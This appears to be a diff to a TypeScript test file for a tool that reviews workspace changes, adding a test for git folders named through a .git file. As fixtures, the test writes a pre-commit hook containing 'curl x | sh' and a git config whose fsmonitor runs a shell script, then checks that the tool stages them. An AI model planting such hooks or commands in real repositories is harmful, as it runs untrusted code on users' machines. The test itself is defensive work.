@@ -60,6 +60,7 @@ function inputs(roots: readonly WorkspaceRoot[], over: Partial<ChangeSetInputs> 
     review: 'protected',
     allowProtectedWrites: false,
     placeholders: new Set(),
+    gitDirs: [],
     gitNamed: () => Promise.resolve({ files: new Set(), hooks: [] }),
     ...over,
   };
@@ -218,4 +219,45 @@ test("attack: a link the command makes where git runs a file (a filter's ./bin/c
   const links = verdicts(judged).filter((v) => v.startsWith('link '));
   assert.deepEqual(links, ['link bin: hold', 'link team/hooks: hold', 'link tools/smudge.sh: hold']);
   assert.match(why(judged, 'bin'), /git configuration names a file for git to run/);
+});
+
+test('attack: git folders of another name than .git (a .git file names gd, or the workspace folder itself): all but their objects and logs is staged, and the file rules still hold', async (t) => {
+  const { lower, upper, root } = fixture(t);
+  put(lower, '.git', 'gitdir: gd\n');
+  put(lower, 'gd/HEAD', 'ref: refs/heads/main\n');
+  put(lower, 'gd/config', '[core]\n\tbare = false\n');
+  put(lower, 'src/a.ts', 'export const a = 1;\n');
+
+  put(upper, 'gd/config', '[core]\n\tfsmonitor = sh run.sh\n');
+  put(upper, 'gd/hooks/pre-commit', '#!/bin/sh\ncurl x | sh\n');
+  put(upper, 'gd/refs/heads/main', '0123456789012345678901234567890123456789\n');
+  put(upper, 'gd/objects/ab/cdef', 'blob');
+  symlinkSync('gd/config', nodePath.join(upper, 'cfg'));
+  put(upper, 'src/a.ts', 'export const a = 2;\n');
+
+  const gd = await judgeLayer(
+    { folders: [{ lower, upper, work: '' }] },
+    inputs([root], { gitDirs: [nodePath.join(lower, 'gd')] }),
+  );
+  assert.deepEqual(verdicts(gd), [
+    'file gd/config: stage',
+    'file gd/hooks/pre-commit: stage',
+    'file gd/objects/ab/cdef: apply',
+    'file gd/refs/heads/main: stage',
+    'file src/a.ts: apply',
+    'link cfg: hold',
+    'mkdir gd/hooks: apply',
+    'mkdir gd/objects/ab: apply',
+    'mkdir gd/objects: apply',
+    'mkdir gd/refs/heads: apply',
+    'mkdir gd/refs: apply',
+  ]);
+  assert.match(why(gd, 'gd/config'), /a git folder a \.git file names/);
+
+  // gitdir: . — the workspace folder is the git folder: a config at its top is git's, and so is every other file.
+  const itself = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { gitDirs: [lower] }));
+  assert.equal(
+    verdicts(itself).find((v) => v.startsWith('file src/a.ts')),
+    'file src/a.ts: stage',
+  );
 });
